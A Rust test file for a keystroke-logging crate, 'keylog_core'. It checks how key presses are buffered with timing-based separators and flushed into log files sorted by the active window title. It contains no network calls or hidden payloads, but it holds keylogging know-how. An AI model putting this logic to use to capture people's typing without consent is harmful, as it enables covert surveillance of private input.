use keylog_core::session::{SessionState, THRESHOLD_MILLI_SECS};
use keylog_core::token::{KeyEvent, RawKey};

fn press(c: &str) -> KeyEvent {
    KeyEvent { name: Some(c.to_string()), key: RawKey::Named(c.to_uppercase()) }
}

#[test]
fn first_event_has_no_separator() {
    let mut s = SessionState::new(THRESHOLD_MILLI_SECS);
    s.record_key(&press("a"), 100);
    assert_eq!(s.buffer, "a");
}

#[test]
fn short_gap_separates_with_a_space() {
    let mut s = SessionState::new(THRESHOLD_MILLI_SECS);
    s.record_key(&press("a"), 1000);
    s.record_key(&press("b"), 1499);
    assert_eq!(s.buffer, "a b");
}

#[test]
fn threshold_gap_separates_with_a_newline() {
    let mut s = SessionState::new(THRESHOLD_MILLI_SECS);
    s.record_key(&press("a"), 1000);
    s.record_key(&press("b"), 1500);
    assert_eq!(s.buffer, "a\nb");
}

#[test]
fn clock_running_backwards_counts_as_no_gap() {
    let mut s = SessionState::new(THRESHOLD_MILLI_SECS);
    s.record_key(&press("a"), 2000);
    s.record_key(&press("b"), 1000);
    assert_eq!(s.buffer, "a b");
}

#[test]
fn round_trip_through_a_flush() {
    let mut s = SessionState::new(THRESHOLD_MILLI_SECS);
    s.record_key(&press("a"), 0);
    s.record_key(&press("b"), 500);
    assert_eq!(s.buffer, "a\nb");
    let plan = s.plan_flush(Some("T"), "./log").expect("non-empty buffer must flush");
    assert_eq!(plan.content, "a\nb");
    assert_eq!(s.buffer, "");
    assert!(s.plan_flush(Some("T"), "./log").is_none());
}

#[test]
fn flushing_an_empty_buffer_does_nothing() {
    let mut s = SessionState::new(THRESHOLD_MILLI_SECS);
    assert!(s.plan_flush(Some("Anything - At All"), "./log").is_none());
    assert_eq!(s.buffer, "");
    // The timing state survived the empty flush: the next press is still
    // the first one ever and gets no separator.
    s.record_key(&press("a"), 9999);
    assert_eq!(s.buffer, "a");
}

#[test]
fn flushing_keeps_the_timing_state() {
    let mut s = SessionState::new(THRESHOLD_MILLI_SECS);
    s.record_key(&press("a"), 1000);
    let _ = s.plan_flush(None, "./log").expect("flush");
    s.record_key(&press("b"), 1600);
    assert_eq!(s.buffer, "\nb");
    let _ = s.plan_flush(None, "./log").expect("flush");
    s.record_key(&press("c"), 1700);
    assert_eq!(s.buffer, " c");
}

#[test]
fn interleaved_flushes_lose_and_duplicate_nothing() {
    let times: [u64; 6] = [0, 100, 200, 800, 900, 1500];

    // One run without any flushes gives the reference text.
    let mut plain = SessionState::new(THRESHOLD_MILLI_SECS);
    for (i, t) in times.iter().enumerate() {
        plain.record_key(&press(&"abcdef"[i..i + 1]), *t);
    }
    let reference = plain.buffer.clone();

    // The same presses with flush ticks scattered in between.
    let mut s = SessionState::new(THRESHOLD_MILLI_SECS);
    let mut collected = String::new();
    for (i, t) in times.iter().enumerate() {
        if i % 2 == 1 {
            if let Some(plan) = s.plan_flush(None, "./log") {
                collected.push_str(&plan.content);
            }
        }
        s.record_key(&press(&"abcdef"[i..i + 1]), *t);
    }
    collected.push_str(&s.buffer);
    assert_eq!(collected, reference);
    assert_eq!(reference, "a b c\nd e\nf");
}

#[test]
fn flush_plan_names_label_directory_and_title_file() {
    let mut s = SessionState::new(THRESHOLD_MILLI_SECS);
    s.record_key(&press("a"), 0);
    let plan = s.plan_flush(Some("Report.docx - Microsoft Word"), "./log").expect("flush");
    assert_eq!(plan.dir, "./log/Microsoft Word");
    assert_eq!(plan.file, "./log/Microsoft Word/Report.docx - Microsoft Word.txt");
    assert_eq!(plan.content, "a");
}

#[test]
fn missing_title_falls_back_to_unknown() {
    let mut s = SessionState::new(THRESHOLD_MILLI_SECS);
    s.record_key(&press("a"), 0);
    let plan = s.plan_flush(None, "./log").expect("flush");
    assert_eq!(plan.dir, "./log/unknown");
    assert_eq!(plan.file, "./log/unknown/unknown.txt");
}

#[test]
fn title_with_illegal_characters_is_sanitized_in_the_file_name() {
    let mut s = SessionState::new(THRESHOLD_MILLI_SECS);
    s.record_key(&press("a"), 0);
    let plan = s.plan_flush(Some("notes: draft? - My*Editor"), "./log").expect("flush");
    // Sanitized title: "notes draft - MyEditor"; its label: "MyEditor".
    assert_eq!(plan.dir, "./log/MyEditor");
    assert_eq!(plan.file, "./log/MyEditor/notes draft - MyEditor.txt");
}

#[test]
fn tokens_of_every_kind_meet_in_one_buffer() {
    let mut s = SessionState::new(THRESHOLD_MILLI_SECS);
    s.record_key(&KeyEvent { name: Some("a".to_string()), key: RawKey::Named("KeyA".to_string()) }, 0);
    s.record_key(&KeyEvent { name: Some(" ".to_string()), key: RawKey::Named("Space".to_string()) }, 100);
    s.record_key(&KeyEvent { name: None, key: RawKey::Code(244) }, 200);
    s.record_key(&KeyEvent { name: None, key: RawKey::Named("Return".to_string()) }, 900);
    s.record_key(&KeyEvent { name: None, key: RawKey::Code(12) }, 1000);
    assert_eq!(s.buffer, "a <Space> <F>\n<Return> <Unknown(12)>");
}
